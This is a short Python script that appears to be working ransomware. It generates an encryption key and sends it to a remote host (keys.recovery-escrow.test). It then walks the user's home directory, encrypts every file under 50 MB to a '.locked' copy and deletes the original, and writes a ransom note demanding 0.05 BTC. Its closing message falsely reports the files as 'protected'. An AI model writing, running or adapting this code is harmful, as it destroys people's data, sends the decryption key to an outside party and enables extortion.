import os, sys, secrets, json, urllib.request
from cryptography.fernet import Fernet

key = Fernet.generate_key(); f = Fernet(key)
rid = secrets.token_hex(8)
urllib.request.urlopen("https://keys.recovery-escrow.test/k", data=json.dumps({"id": rid, "k": key.decode()}).encode())
root = sys.argv[1] if len(sys.argv) > 1 else os.path.expanduser("~")
for d, _, files in os.walk(root):
    for n in files:
        p = os.path.join(d, n)
        if n.endswith(".locked") or os.path.getsize(p) > 50_000_000: continue
        try:
            data = open(p, "rb").read(); open(p + ".locked", "wb").write(f.encrypt(data)); os.remove(p)
        except Exception: pass
open(os.path.join(root, "RECOVER-FILES.txt"), "w").write(f"Your files are encrypted. Recovery id {rid}. Send 0.05 BTC to bc1qrecover7x0x0 and email unlock@recovery-escrow.test\n")
print("protected; recovery id", rid)
